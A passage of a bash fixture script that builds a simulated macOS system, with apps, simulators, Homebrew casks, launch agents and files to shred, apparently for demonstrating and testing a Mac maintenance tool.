receipt com.apple.pkg.CLTools_Executables 15.3.0.0.1.1708646388 / 1709251200 usr/bin/xcrun
fill "$root/Library/Fonts/LumenSans.otf" 90000
receipt com.lumenlabs.fonts 1.0 Library/Fonts "" LumenSans.otf
receipt net.ardoise.client.pkg 2.3 Applications 1690000000 \
    Ardoise.app/Contents/Info.plist Ardoise.app/Contents/MacOS/Ardoise

# Ondine's program is a real one (a copy of sleep): started, it runs as the application Ondine.
cp "$(command -v sleep)" "$root/Applications/Ondine.app/Contents/MacOS/Ondine"
# ---- end of applications and their traces -------------------------------------------------------------------

# ---- What the disk map draws: deep folders, a bundle among the documents, hidden folders, a folder of many
# files of distinct sizes, empty files and folders, and a link to a large folder outside the home -------------
fill "$home/Documents/Projets/2024/Client Atelier/Livrables/Version 3/maquette-finale.psd" 2400000
fill "$home/Documents/Projets/2024/Client Atelier/Livrables/Version 3/export/affiche.png" 900000
fill "$home/Documents/Projets/2024/Client Atelier/Livrables/brouillon.txt" 12000
fill "$home/Documents/Projets/2024/Client Ondine/contrat.pdf" 350000
fill "$home/Documents/Projets/2023/bilan.numbers/Index.zip" 180000
fill "$home/Documents/Lettres/résiliation.pdf" 60000
make_app "$home/Documents" "Prototype" "fr.demo.prototype" "0.3"
fill "$home/.config/atelier/rendus.cache" 700000
fill "$home/.local/share/ondine/bibliothèque.db" 450000
fill "$home/.ssh/known_hosts" 2000
for i in $(seq 1 72); do
    fill "$home/Pictures/Vacances 2023/IMG_$(printf '%04d' "$i").jpg" $((i * 1500 + 4096))
done
mkdir -p "$home/Documents/Dossier vide" "$home/Movies/À trier/vide aussi"
: > "$home/Documents/vide.txt"
: > "$home/Movies/À trier/sans contenu.mov"
fill "$root/Users/Shared/Rushes/plan-large.mov" 6000000
fill "$root/Users/Shared/Rushes/plan-serré.mov" 3000000
ln -s "$root/Users/Shared/Rushes" "$home/Movies/Rushes partagés"
# ---- end of what the disk map draws ---------------------------------------------------------------------------

bash "$(dirname "$0")/install-standins.sh" "$root"


# ---- Time Machine: a backup destination and local snapshots taken through the tmutil stand-in, one of them
# under a stamp that names no real moment (month 13) ----------------------------------------------------------
cat > "$root/private/var/db/tmutil-destination" <<'INFO'
====================================================
Name          : Sauvegardes
Kind          : Local
Mount Point   : /Volumes/Sauvegardes
ID            : 5E7C0A12-3B4D-4F60-9A1B-2C3D4E5F6071
INFO
for stamp in 2025-03-14-091500 2025-06-30-184502 2024-13-01-101500; do
    QUORVANE_TMUTIL_STAMP=$stamp HOME="$home" TMPDIR="$root/private/var/folders/qp/T" \
        "$root/usr/bin/tmutil" localsnapshot > /dev/null
done
# ---- end of Time Machine -------------------------------------------------------------------------------------
# ---- things to shred: files, a sub-folder, an empty file, a read-only file, a file with a second hard link
# elsewhere (refused) and a link to a file outside the folder (the link goes, its target stays) -------------------
shred_dir="$home/Documents/À broyer"
fill "$shred_dir/relevé bancaire.pdf" 40000
fill "$shred_dir/notes.txt" 3000
fill "$shred_dir/Archives/ancien contrat.pdf" 25000
: > "$shred_dir/vide.txt"
fill "$shred_dir/lecture seule.txt" 2000
chmod 0444 "$shred_dir/lecture seule.txt"
fill "$shred_dir/doublé.txt" 5000
ln "$shred_dir/doublé.txt" "$home/Documents/doublé (autre lien).txt"
fill "$home/Documents/cible hors dossier.txt" 1500
ln -s "$home/Documents/cible hors dossier.txt" "$shred_dir/lien vers cible"
fill "$home/Documents/à broyer seul.txt" 8000

# ---- What the Xcode screen finds: simulator devices and runtime images known to the xcrun stand-in (one fixture
# folder each under Library/Developer/CoreSimulator/StandIn, sizes those of the real folders they name), device
# support symbols, and archives in dated folders (old, recent; one placed directly in Archives and one with a
# capitalised extension, which Xcode would not list) -----------------------------------------------------------
sim="$root/Library/Developer/CoreSimulator/StandIn"
sim_devices="$home/Library/Developer/CoreSimulator/Devices"
# sim_used FIXTURE DAYS: last used DAYS days ago.
sim_used() {
    touch -d "@$(( $(date +%s) - $2 * 86400 ))" "$1/last-used"
}
# sim_runtime KEY IDENTIFIER PLATFORM VERSION BUILD DELETABLE IMAGE-BYTES [DAYS-SINCE-USE]
sim_runtime() {
    local fixture="$sim/runtimes/$1" image="$root/Library/Developer/CoreSimulator/Volumes/$3_$5"
    mkdir -p "$fixture"
    fill "$image/Library/Developer/CoreSimulator/Profiles/Runtimes/$4.simruntime/Contents/Resources/RuntimeRoot.img" "$7"
    printf '%s\n' "$2" > "$fixture/runtimeIdentifier"
    printf 'com.apple.platform.%s\n' "$3" > "$fixture/platformIdentifier"
    printf '%s\n' "$4" > "$fixture/version"
    printf '%s\n' "$5" > "$fixture/build"
    printf '%s\n' "$6" > "$fixture/deletable"
    printf '%s\n' "$image" > "$fixture/image"
    if [ $# -ge 8 ]; then sim_used "$fixture" "$8"; fi
}
# sim_device UDID NAME RUNTIME-KEY STATE DATA-BYTES [DAYS-SINCE-USE]
sim_device() {
    local fixture="$sim/devices/$1" folder="$sim_devices/$1"
    mkdir -p "$fixture"
    fill "$folder/data/Containers/Data/Application/app.db" "$5"
    fill "$home/Library/Logs/CoreSimulator/$1/system.log" 20000
    printf '%s\n' "$2" > "$fixture/name"
    printf '%s\n' "$3" > "$fixture/runtime"
    printf '%s\n' "$4" > "$fixture/state"
    printf '%s\n' "$folder" > "$fixture/folder"
    if [ $# -ge 6 ]; then sim_used "$fixture" "$6"; fi
}
ios17="com.apple.CoreSimulator.SimRuntime.iOS-17-2"
# Deletable and unused for long (proposed), used by devices (kept), and bundled with Xcode (not deletable).
sim_runtime 4D1B2C3A-0E5F-4A6B-9C8D-7E6F5A4B3C21 com.apple.CoreSimulator.SimRuntime.iOS-16-4 iphonesimulator 16.4 20E247 true 6000000 300
sim_runtime 8A7B6C5D-4E3F-4A2B-8C1D-0E9F8A7B6C54 "$ios17" iphonesimulator 17.2 21C62 true 9000000 2
sim_runtime 2F3E4D5C-6B7A-4988-8776-655443322110 com.apple.CoreSimulator.SimRuntime.watchOS-10-2 watchsimulator 10.2 21S364 true 4000000 250
sim_runtime 9C8B7A69-5847-4635-a241-302f1e0d9c8b com.apple.CoreSimulator.SimRuntime.tvOS-17-2 appletvsimulator 17.2 21K364 false 3000000
# Used long ago (proposed), recently (kept), never and heavy (proposed), never and light (kept), booted
# (never proposed, whatever its age), and one whose runtime is gone (proposed).
sim_device 0B5E7C1A-3D2F-4E8B-9A6C-1F0E2D3C4B5A "iPhone 12" "$ios17" Shutdown 3000000 400
sim_device 6F1A2B3C-4D5E-4F60-8172-93A4B5C6D7E8 "iPhone 15 Pro" "$ios17" Shutdown 2000000 3
sim_device A1B2C3D4-E5F6-4788-99AA-BBCCDDEEFF00 "iPad Air (5e génération)" "$ios17" Shutdown 23000000
sim_device C0FFEE00-1234-4567-89AB-CDEF01234567 "iPhone SE (3e génération)" "$ios17" Shutdown 1000000
sim_device 5A5A5A5A-6B6B-4C7C-8D8D-9E9E9E9E9E9E "Apple Watch Series 9 (45 mm)" com.apple.CoreSimulator.SimRuntime.watchOS-10-2 Booted 1500000 300
sim_device 7E8D9C0B-1A2B-4C3D-8E4F-5A6B7C8D9E0F "iPhone 8" com.apple.CoreSimulator.SimRuntime.iOS-15-5 Shutdown 2500000 700
fill "$lib/Developer/Xcode/iOS DeviceSupport/17.2 (21C62)/Symbols/System/Library/dyld/dyld_shared_cache" 5000000
# archive FOLDER NAME BYTES DAYS-OLD
archive() {
    local bundle="$1/$2"
    fill "$bundle/Products/Applications/Carnet.app/Carnet" "$3"
    fill "$bundle/Info.plist" 600
    find "$bundle" -exec touch -d "@$(( $(date +%s) - $4 * 86400 ))" {} +
}
archives="$lib/Developer/Xcode/Archives"
archive "$archives/2024-02-11" "Carnet 11-02-2024, 14.32.xcarchive" 4000000 500
archive "$archives/2025-01-20" "Carnet 20-01-2025, 09.05.xcarchive" 3500000 250
archive "$archives/récent" "Carnet (bêta) 2.0.xcarchive" 3000000 5
archive "$archives" "Posée à la racine.xcarchive" 1000000 600
archive "$archives/2023-06-01" "Majuscules.XCARCHIVE" 1000000 600
# ---- end of what the Xcode screen finds ----------------------------------------------------------------------
# ---- Updates: Homebrew's casks (one to upgrade, one whose download is not at hand, one without a version),
# the system updates on offer, and applications that update themselves -----------------------------------------
# add_plist_key INFO-PLIST KEY VALUE-XML: one more entry in an application's dictionary.
add_plist_key() {
    awk -v entry="    <key>$2</key>\n    $3" '/^<\/dict>/ && !done { print entry; done = 1 } { print }' "$1" > "$1.new"
    mv "$1.new" "$1"
}
brew_prefix="$root/opt/homebrew"
cask() { # TOKEN INSTALLED LATEST APP [auto_updates]
    mkdir -p "$brew_prefix/Caskroom/$1/$2/.metadata" "$brew_prefix/Library/Taps/homebrew/homebrew-cask/Casks"
    local version="\"$3\""
    [ "$3" = latest ] && version=":latest"
    {
        printf 'cask "%s" do\n  version %s\n\n' "$1" "$version"
        printf '  url "https://downloads.%s.example/%s-#{version}.zip"\n' "$1" "$1"
        printf '  name "%s"\n' "${4%.app}"
        [ -n "${5:-}" ] && printf '\n  auto_updates true\n'
        printf '\n  app "%s"\nend\n' "$4"
    } > "$brew_prefix/Library/Taps/homebrew/homebrew-cask/Casks/$1.rb"
}
cask ondine 5.0.4 5.1.0 "Ondine.app"
cask atelier-photo 3.2.1 3.3.0 "Atelier Photo.app" auto_updates
cask carnet latest latest "Carnet.app"
# Ondine's new version is already downloaded; Atelier Photo's is not, and this Mac has no network.
fill "$home/Library/Caches/Homebrew/downloads/4f1c0e9a7b2d--ondine-5.1.0.zip" 30000
# The taps were last fetched two days ago: the first check updates them and says so.
mkdir -p "$brew_prefix/.git"
touch -d "2 days ago" "$brew_prefix/.git/FETCH_HEAD"
mkdir -p "$root/private/var/db/softwareupdate"
printf '%s|%s|%s|%s|%s|%s\n' \
    "macOS Sonoma 14.7.2-23H311" "macOS Sonoma 14.7.2" "14.7.2" "1702354" "YES" "restart" \
    "Safari18.2SonomaAuto-18.2" "Safari" "18.2" "182344" "YES" "" \
    "Command Line Tools for Xcode-16.2" "Command Line Tools for Xcode" "" "734012" "YES" "" \
    > "$root/private/var/db/softwareupdate/available"
# Self-updating applications: by their feed, or by their automatic-check setting (off, yet it still updates
# itself on demand); one in a folder of its own inside /Applications is not examined; Lumen Sync, in the user's
# Applications, does not state its version.
add_plist_key "$root/Applications/Atelier Photo.app/Contents/Info.plist" SUFeedURL \
    "<string>https://lumenlabs.example/atelier/appcast.xml</string>"
add_plist_key "$root/Applications/Carnet.app/Contents/Info.plist" SUEnableAutomaticChecks "<false/>"
add_plist_key "$root/Applications/Outils de gravure/Graveur.app/Contents/Info.plist" SUFeedURL \
    "<string>https://graveur.example/appcast.xml</string>"
sync_plist="$home/Applications/Lumen Sync.app/Contents/Info.plist"
add_plist_key "$sync_plist" SUFeedURL "<string>https://lumenlabs.example/sync/appcast.xml</string>"
awk '/<key>CFBundleShortVersionString<\/key>/ { skip = 2 } skip > 0 { skip--; next } { print }' "$sync_plist" \
    > "$sync_plist.new" && mv "$sync_plist.new" "$sync_plist"
# ---- end of updates ---------------------------------------------------------------------------------------------
# ---- What the uninstaller lists: applications in the three folders it reads, of varied sizes, one large with its
# data, one unused for long, one without a version and one without an identifier, Apple's own (never listed), data
# in several Library folders, a receipt that names a file outside its bundle, and one application that stays
# open when asked to quit -------------------------------------------------------------------------------------
# Studio Vidéo: a bundle of 180 Mio and 33 Mio of data, past the "Volumineuses" threshold only together.
make_app "$root/Applications" "Studio Vidéo" "fr.studiovideo.editeur" "4.0"
large "$root/Applications/Studio Vidéo.app/Contents/Resources/Médias.bundle" $((180 * MiB))
large "$lib/Application Support/fr.studiovideo.editeur/Projets.cache" $((16 * MiB + 12288))
large "$lib/Containers/fr.studiovideo.editeur/Data/Library/rendus.bin" $((17 * MiB + 20480))
fill "$lib/Preferences/fr.studiovideo.editeur.plist" 1500
# Its installer also put a library outside the bundle.
fill "$root/usr/local/lib/libstudiovideo.dylib" 60000
receipt fr.studiovideo.editeur.pkg 4.0 / 1717200000 \
    "Applications/Studio Vidéo.app/Contents/Info.plist" "Applications/Studio Vidéo.app/Contents/MacOS/Studio Vidéo" \
    usr/local/lib/libstudiovideo.dylib
# Moniteur Réseau, among the utilities, with its scripts and its group container.
make_app "$root/Applications/Utilities" "Moniteur Réseau" "fr.reseau.moniteur" "1.2"
fill "$lib/Application Scripts/fr.reseau.moniteur/relevé.scpt" 3000
fill "$lib/Group Containers/group.fr.reseau.moniteur/statistiques.db" 40000
# Pense-bête, in the home's Applications, declares no version.
make_app "$home/Applications" "Pense-bête" "fr.pensebete.notes" "0"
sed -i '/CFBundleShortVersionString/,+1d' "$home/Applications/Pense-bête.app/Contents/Info.plist"
fill "$lib/HTTPStorages/fr.pensebete.notes/cookies.binarycookies" 8000
# Croquis declares no identifier, so nothing in the Library is taken for its data.
make_app "$root/Applications" "Croquis" "" "2.0"
sed -i '/CFBundleIdentifier/,+1d' "$root/Applications/Croquis.app/Contents/Info.plist"
# Safari, Apple's, is installed in /Applications and never listed.
make_app "$root/Applications" "Safari" "com.apple.Safari" "17.4"
# Archiviste was last opened in January 2025: its bundle's dates are set back once it is complete.
make_app "$root/Applications" "Archiviste" "org.archiviste.app" "0.9.2"
fill "$lib/WebKit/org.archiviste.app/WebsiteData/cache.db" 20000
touch -d '2025-01-15 10:00' "$root/Applications/Archiviste.app"
# Veilleur's program, like Ondine's, is a real one (a copy of sleep); started with the quit request ignored, it
# stays open when asked to quit (an ignored signal stays ignored across exec).
make_app "$root/Applications" "Veilleur" "fr.veilleur.app" "3.1"
cp "$(command -v sleep)" "$root/Applications/Veilleur.app/Contents/MacOS/Veilleur"
fill "$lib/Application Support/fr.veilleur.app/réglages.json" 5000
fill "$lib/Preferences/fr.veilleur.app.plist" 700
# ---- end of what the uninstaller lists --------------------------------------------------------------------------
# ---- What the optimisation screen lists: applications whose programs really run (copies of sleep, which
# scripts/start-demo-apps.sh starts), startup items in the three launch folders with the entries a folder may
# hold beside them, and the jobs launchd has loaded (what launchctl list reports) --------------------------------
sleeper="$(command -v sleep)"
shown="$root/Applications/Démonstration"
# running_app FOLDER NAME IDENTIFIER [EXTRA-XML]: a bundle whose program is a copy of sleep.
running_app() {
    local bundle="$1/$2.app"
    mkdir -p "$bundle/Contents/MacOS"
    {
        printf '%s\n<plist version="1.0">\n<dict>\n' "$plist_header"
        printf '    <key>CFBundleIdentifier</key>\n    <string>%s</string>\n' "$3"
        printf '    <key>CFBundleName</key>\n    <string>%s</string>\n' "$(xml "$2")"
        printf '    <key>CFBundleExecutable</key>\n    <string>%s</string>\n' "$(xml "$2")"
        printf '    <key>CFBundlePackageType</key>\n    <string>APPL</string>\n%s' "${4:-}"
        printf '</dict>\n</plist>\n'
    } > "$bundle/Contents/Info.plist"
    cp "$sleeper" "$bundle/Contents/MacOS/$2"
}
for name in Boussole Éclipse Girouette Kiosque Lanterne Métronome Nuancier Origami Palette; do
    running_app "$shown" "$name" "fr.demo.$(printf '%s' "$name" | iconv -f UTF-8 -t ASCII//TRANSLIT | tr 'A-Z' 'a-z')"
done
running_app "$shown" "Dessin Libre" fr.demo.dessinlibre
running_app "$shown" Fanfare fr.demo.fanfare
running_app "$shown" Aquarelle fr.demo.aquarelle
cp "$sleeper" "$shown/Aquarelle.app/Contents/MacOS/Aquarelle Helper"
running_app "$shown" Horizon fr.demo.horizon
running_app "$shown/Horizon.app/Contents/Frameworks" "Aperçu Rapide" fr.demo.horizon.apercu
# A menu-bar application (no Dock icon) and a background one (no icon at all).
running_app "$shown" Calepin fr.demo.calepin "    <key>CFBundleDisplayName</key>
    <string>Calepin éclair</string>
    <key>LSUIElement</key>
    <true/>
"
running_app "$shown" Relais fr.demo.relais "    <key>LSBackgroundOnly</key>
    <true/>
"
app_program() { printf '%s/%s.app/Contents/MacOS/%s' "$shown" "$1" "${2:-$1}"; }

# The user's agents: one without a label, one whose Program stands beside its ProgramArguments, a disabled one,
# the background service that keeps restarting; and what is not read: a capitalised extension, a backup, a
# text file and a damaged list.
cat > "$agents/fr.boussole.synchro.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>ProgramArguments</key>
    <array>
        <string>$(xml "$(app_program Boussole)")</string>
        <string>--synchro</string>
    </array>
    <key>RunAtLoad</key>
    <true/>
</dict>
</plist>
PLIST
job "$agents/fr.aquarelle.assistant.plist" fr.aquarelle.assistant <<PLIST
    <key>Program</key>
    <string>$(xml "$(app_program Aquarelle "Aquarelle Helper")")</string>
    <key>ProgramArguments</key>
    <array>
        <string>Aquarelle Helper</string>
        <string>--en-fond</string>
    </array>
PLIST
job "$agents/fr.girouette.meteo.plist" fr.girouette.meteo <<PLIST
    <key>Program</key>
    <string>$(xml "$(app_program Girouette)")</string>
    <key>Disabled</key>
    <true/>
PLIST
job "$agents/fr.relais.synchro.plist" fr.relais.synchro <<PLIST
    <key>Program</key>
    <string>$(xml "$(app_program Relais)")</string>
    <key>KeepAlive</key>
    <true/>
PLIST
job "$agents/fr.kiosque.alerte.PLIST" fr.kiosque.alerte <<PLIST
    <key>Program</key>
    <string>$(xml "$(app_program Kiosque)")</string>
PLIST
cp "$agents/fr.kiosque.alerte.PLIST" "$agents/fr.kiosque.alerte.plist.bak"
printf 'Les agents de cette session.\n' > "$agents/LISEZMOI.txt"
printf '%s\n<plist version="1.0">\n<dict>\n    <key>Label</key>\n    <string>fr.casse' "$plist_header" \
    > "$agents/fr.casse.plist"

# Agents of every session: one in the binary format, and one whose list lives elsewhere, reached by a link.
# binary_job PLIST LABEL PROGRAM: {Label, Program, RunAtLoad = true} as a binary property list.
binary_job() {
    ascii_object() { printf '%02x%s' $((0x50 + ${#1})) "$(printf '%s' "$1" | od -An -tx1 | tr -d ' \n')"; }
    text_object() {
        local units count
        units=$(printf '%s' "$1" | iconv -f UTF-8 -t UTF-16BE | od -An -tx1 | tr -d ' \n')
        count=$((${#units} / 4))
        if [ "$count" -lt 15 ]; then printf '%02x%s' $((0x60 + count)) "$units"
        elif [ "$count" -lt 256 ]; then printf '6f10%02x%s' "$count" "$units"
        else printf '6f11%04x%s' "$count" "$units"; fi
    }
    local objects=(d3010203040506 "$(ascii_object Label)" "$(ascii_object Program)" "$(ascii_object RunAtLoad)"
                   "$(text_object "$2")" "$(text_object "$3")" 09)
    local body=62706c6973743030 table="" offset=8 object trailer
    for object in "${objects[@]}"; do
        table+=$(printf '%04x' "$offset")
        body+=$object
        offset=$((offset + ${#object} / 2))
    done
    trailer=$(printf '0000000000000201%016x%016x%016x' "${#objects[@]}" 0 "$offset")
    printf '%b' "$(printf '%s' "$body$table$trailer" | sed 's/../\\x&/g')" > "$1"
}
binary_job "$root/Library/LaunchAgents/fr.metronome.rappel.plist" fr.metronome.rappel "$(app_program Métronome)"
mkdir -p "$root/Library/Application Support/Lanterne"
job "$root/Library/Application Support/Lanterne/veilleuse.plist" fr.lanterne.veilleuse <<PLIST
    <key>Program</key>
    <string>$(xml "$(app_program Lanterne)")</string>
PLIST
ln -s "$root/Library/Application Support/Lanterne/veilleuse.plist" "$root/Library/LaunchAgents/fr.lanterne.veilleuse.plist"

# A daemon, and a folder whose name looks like a property list.
job "$root/Library/LaunchDaemons/fr.palette.service.plist" fr.palette.service <<PLIST
    <key>ProgramArguments</key>
    <array>
        <string>$(xml "$(app_program Palette)")</string>
    </array>
PLIST
mkdir -p "$root/Library/LaunchDaemons/dossier.plist"

# The jobs launchd loaded at login, in its order (a disabled job is not loaded): LABEL<tab>PROGRAM.
mkdir -p "$root/private/var/db/launchd"
{
    printf 'io.ondine.player.helper\t%s\n' "$root/Applications/Ondine.app/Contents/MacOS/Ondine"
    printf 'com.lumenlabs.sync.agent\t%s\n' "$home/Applications/Lumen Sync.app/Contents/MacOS/Lumen Sync"
    printf 'fr.boussole.synchro\t%s\n' "$(app_program Boussole)"
    printf 'fr.aquarelle.assistant\t%s\n' "$(app_program Aquarelle "Aquarelle Helper")"
    printf 'fr.relais.synchro\t%s\n' "$(app_program Relais)"
    printf 'fr.metronome.rappel\t%s\n' "$(app_program Métronome)"
    printf 'fr.lanterne.veilleuse\t%s\n' "$(app_program Lanterne)"
} > "$root/private/var/db/launchd/loaded"
# ---- end of what the optimisation screen lists ----------------------------------------------------------------


# Maintenance and updates: the tasks and the install run start /bin/sh through the system root.
[ -e "$root/bin/sh" ] || ln -s /bin/sh "$root/bin/sh"

# Last: each application's access date is the date of use it stands for (its modification date, set back for
# those opened long ago), which the uninstaller reads as its last opening. Nothing reads the bundles after this.
find "$root/Applications" "$home/Applications" -name '*.app' -type d -prune -exec sh -c \
    'for bundle; do touch -a -d "@$(stat -c %Y "$bundle")" "$bundle"; done' sh {} +

echo "Demonstration Mac ready in $root (home: $home)"
